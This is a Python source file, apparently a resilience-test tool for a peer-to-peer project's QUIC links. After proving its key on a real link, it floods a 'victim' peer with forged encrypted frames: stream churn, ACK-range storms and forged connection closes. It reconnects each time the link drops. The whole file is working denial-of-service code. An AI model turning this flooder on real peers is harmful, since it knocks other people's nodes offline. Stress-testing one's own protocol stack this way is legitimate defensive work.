"""
A modified peer as a process: it proves its key on a real link, and then sends forged packets of one kind of
frame. It acknowledges nothing, unless that is what the kind is about, or streams are opened without end. Each
link that the victim ends is followed by another, until the time is over.

    python link_flooder.py RENDEZVOUS VICTIM SECONDS PACKETS_PER_SECOND KIND…

Prints JSON lines: `registered`, and for each kind `began`, `call` (the victim has to call, since only a
callee may send such frames) and `ended` with the figures.
"""

from __future__ import annotations

import contextlib
import json
import sys
import time
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from itertools import chain, cycle
from typing import Any

from twisted.internet.defer import Deferred
from twisted.internet.interfaces import IDelayedCall

import punch.link.core
from punch.contacts import AddressBook
from punch.identity import Identity, PeerID
from punch.link.events import encode_name
from punch.link.link import Link
from punch.link.proof import LinkCertificate
from punch.link.quic.interface import QuicConnection, QuicSink
from punch.link.quic.packet import CONNECTION_ID_LENGTH, PacketReader, QuicFrameType
from punch.link.quic.qh3 import Qh3Backend, Qh3Connection
from punch.net.reactor import use_monotonic_time
from punch.node.events import (
    CallFailed,
    Connected,
    Disconnected,
    Event,
    Registered,
)
from punch.node.node import Node
from punch.test.link.flooder import (
    BULK,
    CALLEE_FLOODS,
    FLOODS,
    ROOM,
    KeptSecrets,
    PacketWriter,
    integer,
    packed,
)
from punch.wire.control import Accept
from punch.wire.rendezvous_address import RendezvousAddress

PERIOD = 0.01
"""Seconds between bursts of packets."""
SETTLE = 0.3
"""Seconds after which both sides have acknowledged what began the link."""
PAUSE = 0.5
"""Seconds between a link's end and the next call."""
MOST_AT_ONCE = 64
"""Packets of a burst that came late."""


STREAM_OPEN = b"\x0a\x04" + integer(len(encode_name("chat/2"))) + encode_name("chat/2")
"""The stream to which many of the frames belong is one that the victim takes."""

FORGED: dict[str, Callable[[], Iterator[bytes]]] = {
    **{name: partial(packed, frame) for name, frame in (FLOODS | CALLEE_FLOODS | BULK).items()},
    "RESET_STREAM": lambda: packed(lambda number: b"\x04\x04\x01" + integer(len(STREAM_OPEN) - 3)),
    "ACK, ECN": lambda: packed(lambda number: b"\x03\x00\x00\x00\x00" + 3 * integer(number)),
    "STREAM, without length": lambda: cycle(
        (
            b"\x08\x04" + STREAM_OPEN[3:],
            b"\x0c\x04" + integer(1 << 20) + bytes(1120),
            b"\x09\x08" + STREAM_OPEN[3:],
            b"\x0d\x0c" + integer(1 << 20) + bytes(1120),
        )
    ),
    "STREAM, the end again": lambda: packed(lambda number: b"\x0f\x04\x40\x64\x00"),
    "unknown": lambda: packed(lambda number: b"\x40\x42"),
    "STREAMS_BLOCKED, one-way": lambda: packed(lambda number: b"\x17\x01"),
    "MAX_STREAMS, one-way": lambda: packed(lambda number: b"\x13" + integer(1000 + number)),
    "CONNECTION_CLOSE": lambda: packed(lambda number: b"\x1c\x00\x00\x00"),
    "CONNECTION_CLOSE, application": lambda: packed(lambda number: b"\x1d\x00\x00"),
}
"""The payloads of each kind's packets, without end."""
BY_CALLEE = frozenset(CALLEE_FLOODS)
ACK_RANGES = "ACK, ranges"
MOST_RANGES = 31
MAX_STREAMS, APPLICATION_CLOSE = 0x12, 0x1D

CHURN: dict[str, Callable[[bytes], bytes]] = {
    "STREAM, opened and reset": lambda stream_id: b"\x04" + stream_id + b"\x01\x00",
    "STREAM, opened and stopped": lambda stream_id: (
        b"\x05" + stream_id + b"\x01\x04" + stream_id + b"\x01\x00"
    ),
    "STREAM, opened and ended": lambda stream_id: b"\x0b" + stream_id + STREAM_OPEN[2:],
    "STREAM, opened, then reset": lambda stream_id: (
        b"\x0a" + stream_id + STREAM_OPEN[2:] + b"\x04" + stream_id + b"\x01" + integer(len(STREAM_OPEN) - 3)
    ),
}
"""Frames that open a stream and give it up, by the encoded ID of the stream."""

INTEGERS = {
    QuicFrameType.PADDING: 0,
    QuicFrameType.PING: 0,
    QuicFrameType.RESET_STREAM: 3,
    QuicFrameType.STOP_SENDING: 2,
    QuicFrameType.MAX_DATA: 1,
    QuicFrameType.MAX_STREAM_DATA: 2,
    MAX_STREAMS: 1,
    QuicFrameType.DATA_BLOCKED: 1,
    QuicFrameType.STREAM_DATA_BLOCKED: 2,
    QuicFrameType.RETIRE_CONNECTION_ID: 1,
    QuicFrameType.HANDSHAKE_DONE: 0,
}
"""The number of integers in those frames of a victim that consist of them."""


class Replies:
    """
    What a victim sends.

    :ivar allowed: how many streams it allows to be opened, as it has said in MAX_STREAMS.
    :ivar ended: why it has closed the connection; None while it has not.
    """

    def __init__(self) -> None:
        self.allowed = 100
        self.ended: str | None = None

    def read(self, payload: bytes) -> None:
        """Read the frames of a packet up to the first that victims do not send."""
        at = 0

        def take() -> int:
            nonlocal at
            length = 1 << (payload[at] >> 6)
            value = int.from_bytes(payload[at : at + length], "big") & ((1 << (8 * length - 2)) - 1)
            at += length
            return value

        with contextlib.suppress(IndexError):
            while True:
                kind = take()
                if kind in INTEGERS:
                    values = [take() for _ in range(INTEGERS[kind])]
                    if kind == MAX_STREAMS:
                        self.allowed = max(self.allowed, values[0])
                elif kind == QuicFrameType.ACK:
                    take(), take()
                    for _ in range(2 * take() + 1):
                        take()
                elif QuicFrameType.STREAM <= kind <= QuicFrameType.STREAM_LAST:
                    take(), kind & 4 and take()
                    at += take() if kind & 2 else len(payload)
                elif kind in (QuicFrameType.CONNECTION_CLOSE, APPLICATION_CLOSE):
                    code = take()
                    if kind == QuicFrameType.CONNECTION_CLOSE:
                        take()
                    size = take()
                    self.ended = payload[at : at + size].decode(errors="replace") or f"code {code}"
                    return
                else:
                    return


class FloodingConnection(Qh3Connection):
    """
    A connection that keeps its secrets, and sends forged packets of its own from some time on.

    :param plain: the connection that it takes the place of.
    """

    def __init__(self, plain: QuicConnection) -> None:
        self._kept = plain.configuration.secrets_log_file = KeptSecrets()
        super().__init__(plain.library)
        self.sent = 0
        self.said = Replies()
        self._told = False
        self._writer: PacketWriter | None = None
        self._payloads: Iterator[bytes] = iter(())
        self._rate = 0.0
        self._began = 0.0
        self._latest = 0.0
        self._remote_id = b""
        self._replies: PacketReader | None = None

    @property
    def ended(self) -> str | None:
        """Why the victim has closed the connection; None while it has not."""
        return self.said.ended

    @property
    def largest(self) -> int:
        """The largest number of a packet that the victim has sent."""
        return 0 if self._replies is None else max(0, self._replies.largest)

    def acknowledgement(self) -> bytes:
        """A frame that acknowledges all that the victim has sent."""
        return b"\x02" + integer(self.largest) + b"\x00\x00" + integer(self.largest)

    def acknowledge_ranges(self) -> Iterator[bytes]:
        """Payloads with acknowledgements of every second packet of the victim, once there are many."""
        while self.largest < 2 * MOST_RANGES:
            yield b"\x01" + bytes(20)
        ranges = integer(MOST_RANGES - 1) + b"\x00" + b"\x00\x00" * (MOST_RANGES - 1)
        while True:
            frame = b"\x02" + integer(self.largest) + b"\x00" + ranges
            yield frame * (ROOM // len(frame))

    def churn(self, frames: Callable[[bytes], bytes]) -> Iterator[bytes]:
        """Payloads with frames that open streams and give them up, as many as the victim allows."""
        opened = 2
        while True:
            payload = self.acknowledgement()
            while opened < self.said.allowed and len(payload) < ROOM - 50:
                payload += frames(integer(4 * opened))
                opened += 1
            yield payload

    def binding(self) -> bytes:
        flooding.append(self)
        secret = self._kept.receiving(self.configuration.is_client)
        assert secret is not None
        self._replies = PacketReader(secret)
        return super().binding()

    def flood(self, payloads: Iterator[bytes], rate: float, now: float) -> None:
        """From now on, packets with these payloads, so many in a second, are all that is sent."""
        is_client = self.configuration.is_client
        secret = self._kept.kept["CLIENT_TRAFFIC_SECRET_0" if is_client else "SERVER_TRAFFIC_SECRET_0"]
        self._writer = PacketWriter(secret, self._remote_id)
        self._payloads, self._rate, self._began, self._latest = payloads, rate, now, now

    def receive(self, datagrams: Sequence[bytes], now: float) -> None:
        # The library is not told: what is acknowledged are packets that it never sent.
        if self._writer is None:
            super().receive(datagrams, now)
        for data in datagrams:
            payload = None if self._replies is None else self._replies.read(data)
            if payload and self.ended is None:
                self.said.read(payload)

    def deliver(self, sink: QuicSink) -> None:
        if self._writer is None:
            super().deliver(sink)
        elif self.ended is not None and not self._told:
            self._told = True
            sink.on_terminated(0, True, self.ended)

    def datagrams_to_send(self, now: float) -> list[bytes]:
        if self._writer is None:
            datagrams = super().datagrams_to_send(now)
            for data in datagrams:
                if not data[0] & 0x80:
                    self._remote_id = data[1 : 1 + CONNECTION_ID_LENGTH]
            return datagrams
        due = 0
        if self.ended is None and now >= self._latest + PERIOD:
            due = min(int((now - self._latest) * self._rate), MOST_AT_ONCE)
            self._latest = now
        self.sent += due
        return [self._writer.packet(next(self._payloads)) for _ in range(due)]

    def get_timer(self) -> float | None:
        if self._writer is None:
            return super().get_timer()
        return self._latest + PERIOD if self.ended is None else None

    def handle_timer(self, now: float) -> None:
        if self._writer is None:
            super().handle_timer(now)


flooding: list[FloodingConnection] = []
"""The connections that are proved, the newest last."""


class FloodingBackend(Qh3Backend):
    """qh3, with connections of the kind above."""

    def client(self, now: float) -> FloodingConnection:
        return FloodingConnection(super().client(now))

    def server(
        self, certificate: LinkCertificate, original_destination_connection_id: bytes
    ) -> FloodingConnection:
        return FloodingConnection(super().server(certificate, original_destination_connection_id))


class LinkFlooder:
    """Floods one victim with one kind after the other."""

    def __init__(
        self,
        reactor: Any,
        rendezvous: RendezvousAddress,
        victim: PeerID,
        seconds: float,
        rate: float,
        kinds: list[str],
    ) -> None:
        self._reactor = reactor
        self._victim = victim
        self._seconds, self._rate = seconds, rate
        self._kinds = kinds
        self._kind = ""
        """What is sent now; empty while nothing is."""
        self._registered = False
        self._until: IDelayedCall | None = None
        self._again: IDelayedCall | None = None
        """The next call. There is one at a time: a second one replaces the link of the first, without end."""
        self._link: Link | None = None
        self._connection: FloodingConnection | None = None
        self._packets: list[int] = []
        self._endings: dict[str, int] = {}
        self._node = Node(
            reactor=reactor,
            identity=Identity.generate(),
            name="mallory",
            accept=Accept.ANYONE,
            known=AddressBook(None),
            rendezvous=rendezvous,
        )
        self._node.subscribe(self._event)

    def start(self) -> None:
        """Register."""
        self._node.startService()

    def _event(self, event: Event) -> None:
        if isinstance(event, Registered) and not self._registered:
            self._registered = True
            say("registered", id=str(self._node.identity.peer_id))
            self._next_kind()
        elif isinstance(event, Connected):
            self._link = event.link
            if self._kind:
                self._reactor.callLater(SETTLE, self._flood, event.link)
            else:
                self._node.hangup(self._victim)
        elif isinstance(event, Disconnected | CallFailed):
            self._count()
            self._endings[event.reason] = self._endings.get(event.reason, 0) + 1
            self._link = None
            if self._kind and self._again is None:
                self._again = self._reactor.callLater(PAUSE, self._call, self._kind)

    def _next_kind(self) -> None:
        if not self._kinds:
            stopping: Deferred[None] = self._node.stopService()
            stopping.addCallback(lambda _: self._reactor.stop())
            return
        if self._link is not None:
            self._reactor.callLater(PAUSE, self._next_kind)  # saying goodbye takes a second
            return
        self._kind = self._kinds.pop(0)
        self._packets, self._endings = [], {}
        self._until = None
        say("began", kind=self._kind)
        self._call(self._kind)

    def _call(self, kind: str) -> None:
        self._again = None
        if kind != self._kind or self._link is not None:
            return
        if kind in BY_CALLEE:
            say("call", kind=kind)
        else:
            self._node.connect(self._victim).addErrback(lambda _: None)

    def _flood(self, link: Link) -> None:
        if link is not self._link or link.closed is not None:
            return
        self._connection = flooding[-1]
        if self._kind == ACK_RANGES:
            payloads = self._connection.acknowledge_ranges()
        elif self._kind in CHURN:
            payloads = self._connection.churn(CHURN[self._kind])
        else:
            payloads = FORGED[self._kind]()
        if self._kind not in BY_CALLEE:
            payloads = chain([STREAM_OPEN], payloads)
        if self._until is None:
            self._until = self._reactor.callLater(self._seconds, self._finish)
        self._connection.flood(payloads, self._rate, time.monotonic())
        link.schedule_flush()

    def _count(self) -> None:
        if self._connection is not None:
            self._packets.append(self._connection.sent)
            if self._connection.ended is not None:
                ended = self._connection.ended
                self._endings[ended] = self._endings.get(ended, 0) + 1
            self._connection = None

    def _finish(self) -> None:
        self._count()
        say("ended", kind=self._kind, packets=self._packets, endings=self._endings)
        self._kind = ""
        if self._link is not None:
            self._node.hangup(self._victim)
        self._reactor.callLater(2 * PAUSE, self._next_kind)


def say(event: str, **fields: Any) -> None:
    """One line to who has started this."""
    print(json.dumps({"event": event, **fields}), flush=True)


def main(reactor: Any) -> None:
    """Attack."""
    rendezvous, victim, seconds, rate, *kinds = sys.argv[1:]
    use_monotonic_time(reactor)
    punch.link.core.Qh3Backend = FloodingBackend  # type: ignore[attr-defined]
    attacker = LinkFlooder(
        reactor, RendezvousAddress.parse(rendezvous), PeerID.parse(victim), float(seconds), float(rate), kinds
    )
    reactor.callWhenRunning(attacker.start)
    reactor.run()


if __name__ == "__main__":
    from twisted.internet import reactor

    main(reactor)
